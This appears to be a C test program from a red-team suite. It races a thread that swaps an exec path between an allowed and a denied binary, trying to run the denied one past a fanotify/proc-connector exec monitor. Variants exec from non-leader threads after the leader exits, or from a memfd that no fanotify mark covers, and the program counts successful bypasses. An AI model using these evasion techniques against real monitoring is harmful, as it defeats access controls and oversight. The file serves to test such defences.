/* E140: the exec path flipped by a thread between an allowed program and
 * a denied one (e09-style), for SECS seconds:
 *
 *   e140_exec_flip GOOD BAD MARKER SECS [leader|thread|pexit|two]
 *
 * A child per attempt: vfork-free fork, execve(buf, {buf, MARKER}); the
 * flipper thread of the child rewrites buf. Who execs:
 *  - leader: the process's first thread;
 *  - thread (e173): another thread, so that the kernel ends the leader
 *    before the new image starts (de_thread) and the proc connector
 *    reports the leader's exit before the exec;
 *  - pexit (e174, red team 13): another thread, after the leader has
 *    left with pthread_exit (its exit reported first, nothing under way);
 *  - two (e174): two other threads at once.
 * BAD "memfd:FILE" (e174): FILE copied into a memfd, exec'd as
 * /proc/thread-self/fd/N; a memfd is on the kernel's internal mount,
 * which no fanotify mark covers. The parent counts attempts whose child
 * ran BAD (MARKER grew). Prints "RACE attempts= ok= hits=". */
#define _GNU_SOURCE
#include "esc.h"
#include <pthread.h>
#include <sched.h>
#include <sys/syscall.h>
#include <sys/stat.h>
#include <sys/wait.h>

static char buf[4096];
static const char *good, *bad, *marker;
static volatile int flipping;

static void *flipper(void *a)
{
	(void)a;
	for (;;) {
		strcpy(buf, bad);
		flipping = 1;
		strcpy(buf, good);
	}
	return NULL;
}

static void *execer(void *a)
{
	(void)a;
	char *av[] = { buf, (char *)marker, NULL };
	for (int i = 0; i < 50; i++)
		execve(buf, av, (char *[]){ NULL });
	_exit(127);
	return NULL;
}

/* pexit: after the leader's exit (its task a zombie), and a little more
 * for capwatch to read the connector's report of it. */
static void *execer_after_leader(void *a)
{
	char path[64], b[512];
	snprintf(path, sizeof(path), "/proc/self/task/%d/stat", (int)getpid());
	for (int i = 0; i < 10000; i++) {
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			break;
		ssize_t n = read(fd, b, sizeof(b) - 1);
		close(fd);
		if (n <= 0)
			break;
		b[n] = '\0';
		const char *rp = strrchr(b, ')');
		if (rp && (rp[2] == 'Z' || rp[2] == 'X'))
			break;
		usleep(200);
	}
	usleep(2000);
	return execer(a);
}

static long msize(const char *m)
{
	struct stat st;
	return stat(m, &st) == 0 ? (long)st.st_size : 0;
}

int main(int argc, char **argv)
{
	esc_usage(argc, 5, "e140_exec_flip GOOD BAD MARKER SECS [leader|thread|pexit|two]");
	good = argv[1], bad = argv[2];
	marker = argv[3];
	const char *how = argc > 5 ? argv[5] : "leader";
	static char mbad[64];
	if (strncmp(bad, "memfd:", 6) == 0) {
		int src = open(bad + 6, O_RDONLY | O_CLOEXEC);
		int mfd = (int)syscall(SYS_memfd_create, "e174", 0);
		char cb[65536];
		ssize_t r;
		if (src < 0 || mfd < 0) {
			printf("memfd of %s: %s\n", bad + 6, strerror(errno));
			return 2;
		}
		while ((r = read(src, cb, sizeof(cb))) > 0)
			if (write(mfd, cb, (size_t)r) != r)
				return 2;
		close(src);
		snprintf(mbad, sizeof(mbad), "/proc/thread-self/fd/%d", mfd);
		bad = mbad;
	}
	double end = esc_now() + atof(argv[4]);
	long attempts = 0, ok = 0, hits = 0;
	while (esc_now() < end && !esc_race_done(hits)) {
		long before = msize(marker);
		pid_t c = fork();
		if (c == 0) {
			strcpy(buf, good);
			pthread_t t;
			pthread_create(&t, NULL, flipper, NULL);
			/* Not before the flipper runs: an exec right after
			 * pthread_create often ended the thread before its first
			 * flip (bare: 0 hits in 2,705 attempts, 1 run in 6). */
			while (!flipping)
				sched_yield();
			if (strcmp(how, "pexit") == 0) {
				pthread_create(&t, NULL, execer_after_leader, NULL);
				pthread_exit(NULL);
			}
			if (strcmp(how, "thread") == 0 || strcmp(how, "two") == 0) {
				pthread_create(&t, NULL, execer, NULL);
				if (strcmp(how, "two") == 0)
					pthread_create(&t, NULL, execer, NULL);
				for (;;)
					pause();
			}
			execer(NULL);
		}
		int st;
		waitpid(c, &st, 0);
		attempts++;
		if (WIFEXITED(st) && WEXITSTATUS(st) != 127)
			ok++;
		if (msize(marker) > before)
			hits++;
	}
	printf("RACE attempts=%ld ok=%ld hits=%ld\n", attempts, ok, hits);
	return 0;
}
